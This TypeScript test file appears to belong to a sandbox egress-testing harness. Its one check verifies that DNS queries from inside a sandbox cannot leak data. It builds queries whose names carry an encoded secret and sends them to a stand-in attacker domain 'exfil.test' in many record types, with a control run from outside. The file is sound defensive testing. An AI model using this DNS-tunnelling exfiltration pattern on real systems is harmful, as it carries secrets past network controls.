/** Names and packets that would leave a bottle beside its gateway. */
import dnsPacket, { type RecordType } from 'dns-packet';
import type { Step } from '../../programs/steps.ts';
import type { Row } from '../../row.ts';
import type { EgressBench } from '../egress-bench.ts';

const SERVICE = '198.18.0.1';
const LABELS = ['c2VjcmV0', 'x'.repeat(63), '1.2.3.4'] as const;
const TYPES: readonly RecordType[] = ['A', 'AAAA', 'TXT', 'NULL', 'MX', 'CNAME', 'SRV'];

function question(host: string, port: number, name: string, type: RecordType = 'A'): Step {
  const packet = dnsPacket.encode({ type: 'query', id: 7, flags: dnsPacket.RECURSION_DESIRED, questions: [{ type, name }] });
  return { kind: 'udp', host, port, sendHex: packet.toString('hex') };
}

function serverOf({ names }: EgressBench): readonly [string, number] {
  const [host = '', port = ''] = names.address.split(':');
  return [host, Number(port)];
}

export const NAME_ROWS: readonly Row<EgressBench>[] = [
  {
    id: 'E1',
    title: 'secrets in the names of DNS queries',
    claim: 'Only names that a route allows are ever resolved upstream, and no text of a bottle is in the question.',
    attack: 'asks the name server of the bottle, and the one of the attacker, for names that hold a secret',
    defence: 'the name server of the bottle answers from the policy alone; no query is forwarded',
    control: 'the same queries from outside of the bottle reach the name server of the attacker',
    async run(trial, bench) {
      const bottle = await bench.shared();
      const names = [...LABELS.map((label) => `${label}.exfil.test`), `c2VjcmV0.${bench.target.name}`];
      const ask = (host: string, port: number): Step[] => names.flatMap((name) => TYPES.map((type) => question(host, port, name, type)));
      const heard = (): number =>
        bench.names.questions.filter((name) => name.endsWith('.exfil.test') || name.startsWith('c2vjcmv0')).length;
      await bench.probeOutside(ask(...serverOf(bench)));
      trial.control('queries from outside', heard() === names.length * TYPES.length, `${heard()} heard`);
      const before = heard();
      await bench.probe(bottle, [...ask(SERVICE, 53), ...ask(...serverOf(bench))]);
      trial.attack('queries from the bottle', heard() > before, `${heard() - before} heard`);
      const { stdout } = await bottle.run(['getent', 'ahostsv4', bench.target.name]);
      trial.control('an allowed name resolves in the bottle', /^198\.1[89]\./.test(stdout), stdout);
    },
  },
];
